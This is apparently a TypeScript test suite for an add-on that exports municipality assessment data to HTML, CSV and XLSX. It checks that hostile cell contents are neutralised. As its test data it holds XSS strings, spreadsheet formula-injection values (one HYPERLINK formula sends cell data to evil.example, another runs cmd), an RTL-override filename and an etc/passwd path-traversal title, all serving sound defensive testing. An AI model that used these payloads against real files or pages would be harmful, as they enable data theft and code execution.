// What should not break a file for partners: odd names, nothing chosen, thousands of municipalities.
import type { ShareData } from '../../src/addon/sharing/share-types';
import { openFile } from '../../src/files/open-file';
import { copyables } from '../../src/share/copy-text';
import { shareCsv } from '../../src/share/csv';
import { fileName } from '../../src/share/file-name';
import { inSteps } from '../../src/share/in-steps';
import { reportPage, reportSteps } from '../../src/share/report-page';
import { shareXlsx } from '../../src/share/xlsx';
import { refusal } from '../addon/workbook';
import { hostWith, type Municipality, shareOf } from './shared';

const long = 'Очень длинное имя '.repeat(17).trim();
const names = [
  ...['ООО "Кавычки" «ёлочки»', "О'Таш", '🏔️👩‍👩‍👧 Ала-Тоо', 'بلدية القدس', 'שלום', long, 'х'.repeat(300)],
  ...['=HYPERLINK("https://evil.example/?"&A1,"щёлк")', "+cmd|' /C calc'!A0", '-2+3', '@Суу(1)', '\t=1+1', '\r=1+1'],
  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '&lt;b&gt;', ']]>--><!--'],
  ...['abc\u202egnp.exe', 'e\u0301', '\ud83d', '\ufffe\u0001', '</style><style>*{display:none}'],
];
const texts = [
  ...['javascript:alert(1)', 'http://example.org/a', 'data:text/html,<script>1</script>', '=1+1', 'https://'],
  ...['https://example.org/"onmouseover="alert(1)', 'См. «https://example.org/а?b=1&c=2»; и https://b.example/y!'],
];
const odd: Municipality[] = names.map((name, index) => [
  ...[['Ошская', '<i>Область</i>', 'عربي'][index % 3]!, 'Район "1"', name, index % 4, (index * 7) % 4, (index * 5) % 4],
  ...[texts[index % texts.length]!, texts[(index + 3) % texts.length]!],
]);
const shared = (): Promise<ShareData> =>
  shareOf(odd, { with: ['evidence', 'barriers'] }, '"Оценка": <b>=2026</b> / \u202e');

test('the page has no element, attribute or address that stood in a cell', async () => {
  const data = await shared();
  expect(names.map((name) => name.trim()).filter((name) => !data.rows.some((row) => row.name.trim() === name))).toEqual(
    [],
  );
  const html = reportPage(data);
  expect(html).not.toMatch(/<(script|img|i>|b>=|iframe)/i);
  expect(html.match(/<style/g)).toHaveLength(1);
  expect(html).not.toMatch(/<[^>]*\son\w+=/i);
  const addresses = new Set([...html.matchAll(/href="([^#"][^"]*)"/g)].map(([, address]) => address));
  expect([...addresses].sort()).toEqual([
    'https://b.example/y',
    'https://example.org/',
    'https://example.org/а?b=1&amp;c=2',
  ]);
  expect(html).toContain('<bdi>abc\u202egnp.exe</bdi>');
});

test('the table has no cell that a spreadsheet would run', async () => {
  const data = await shared();
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(shareCsv(data));
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const fields = text.slice(1).match(/("(?:[^"]|"")*"|[^;\r\n]*)(?=;|\r\n|$)/g) ?? [];
  const plain = fields.map((field) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field));
  expect(plain.filter((field) => /^[=+@\t\r]/.test(field) || /^-./.test(field))).toEqual([]);
  expect(plain).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"щёлк")');
});

test('the workbook has every text as text, and no link but to https', async () => {
  const data = await shared();
  const { sheets } = await openFile(await shareXlsx(data), 'Для партнёров.xlsx');
  const cells = sheets.flatMap(({ rows }) => rows.flatMap((row) => (row ?? []).flatMap((cell) => cell ?? [])));
  expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
  const starts = cells.filter(({ value }) => typeof value === 'string' && /^[=+\-@]./.test(value));
  expect(starts.length).toBeGreaterThan(4);
  expect(starts.filter(({ style }) => style?.numberFormat !== '@')).toEqual([]);
  expect(cells.flatMap(({ link }) => link ?? []).filter((link) => !link.startsWith('https://'))).toEqual([]);
  const kept = sheets[1]!.rows.slice(4).map((row) => row[2]?.value);
  expect(kept).toContain('х'.repeat(300));
});

test('what is no score stands on the page too, named for what it is, as it does in table and workbook', async () => {
  const data = await shareOf([
    ['Ошская', '', 'Жаңы-Булак', 4, 1, 0, '', ''],
    ['Ошская', '', 'Таш-Короо', '', 1, 0, '', ''],
  ]);
  const [, first = '', second = ''] = reportPage(data).split(/<section class="municipality"|<article/);
  expect(first).toContain('«4» – не балл методики');
  expect(second).not.toContain('не балл методики');
  expect(second).toContain('нет балла');
});

test('nothing that is copied begins a formula', async () => {
  const lines = copyables(await shared()).flatMap(({ text }) => text.split('\n'));
  const fields = lines.flatMap((line) => line.split('\t'));
  expect(fields.filter((field) => /^[=@]/.test(field) || /^[+-][^\d]./.test(field))).toEqual([]);
});

test.each([
  ['"Оценка": <b>=2026</b> / \u202e', 'Оценка b 2026 b 2026-11-24.csv'],
  ['CON', 'tendik 2026-11-24.csv'],
  ['con.txt', 'tendik 2026-11-24.csv'],
  ['Contents', 'Contents 2026-11-24.csv'],
  ['..\\..//etc/passwd', 'etc passwd 2026-11-24.csv'],
  ['...', 'tendik 2026-11-24.csv'],
  ['', 'tendik 2026-11-24.csv'],
  ['🏔️ Ала-Тоо', '🏔️ Ала-Тоо 2026-11-24.csv'],
  ['a\u0000b\nc\u200bd', 'ab cd 2026-11-24.csv'],
  [long + long, `${(long + long).slice(0, 80).trim()} 2026-11-24.csv`],
])('the file of %j is called %j', (title, name) => {
  expect(fileName({ title, computedAt: '24.11.2026 14:05' }, 'csv')).toBe(name);
});

test('names of files fit every system, whatever the title', async () => {
  for (const title of [...names, '🏔️'.repeat(100), 'ү'.repeat(300)]) {
    const name = fileName({ title, computedAt: '24.11.2026 14:05' }, 'xlsx');
    expect(name).toMatch(/^[^\\/:*?"<>|\u0000-\u001f\u202a-\u202e]+ 2026-11-24\.xlsx$/);
    expect(new TextEncoder().encode(name).length).toBeLessThan(256);
    expect(name).not.toMatch(/^[\s.-]|[\s.]\.xlsx$/);
  }
});

test('nothing is made of a sheet whose municipalities are all hidden', async () => {
  const host = hostWith(odd.slice(0, 3));
  for (const row of [3, 4, 5]) host.workbook.sheets[0]!.hiddenRows.add(row);
  expect((await refusal(host, 'dataShare', {})).name).toBe('nothing-to-share');
});

test('names alone can be shared: a page without figures', async () => {
  const host = hostWith(odd.slice(0, 3));
  const { choice } = ((await host.clientCall('shareState', [])) as { data: { choice: object } }).data;
  const made = await host.clientCall('shareDownload', [{ choice: { ...choice, columns: ['name'] } }]);
  const { data } = made as { data: ShareData };
  const html = reportPage(data);
  expect(html).toContain('Кавычки');
  const articles = html.slice(html.indexOf('<article'));
  expect(articles).not.toMatch(/Сумма баллов|Категория|Среднее/);
});

test('thousands of municipalities come in steps, and can be stopped', async () => {
  const many = Array.from({ length: 2000 }, (_, index): Municipality => [
    ...[`Область ${index % 9}`, `Район ${index % 60}`, `Муниципалитет ${index}`],
    ...[index % 4, (index >> 2) % 4, (index >> 4) % 4, `Постановление ${index}`, ''],
  ]);
  const data = await shareOf(many, { with: ['evidence'] });
  const told: number[] = [];
  let clock = 0;
  const turns = { pause: () => Promise.resolve(), now: () => (clock += 1), turn: 40 };
  const steps = await inSteps(reportSteps(data), { ...turns, tell: ({ done }) => told.push(done) });
  expect(told.length).toBeGreaterThan(20);
  expect(told).toEqual([...told].sort((a, b) => a - b));
  const html = steps!.map((step) => step.html).join('');
  expect(html).toBe(reportPage(data));
  expect(html.match(/<article /g)).toHaveLength(2000);
  const stopped = await inSteps(reportSteps(data), { ...turns, isCancelled: () => true });
  expect(stopped).toBeNull();
});
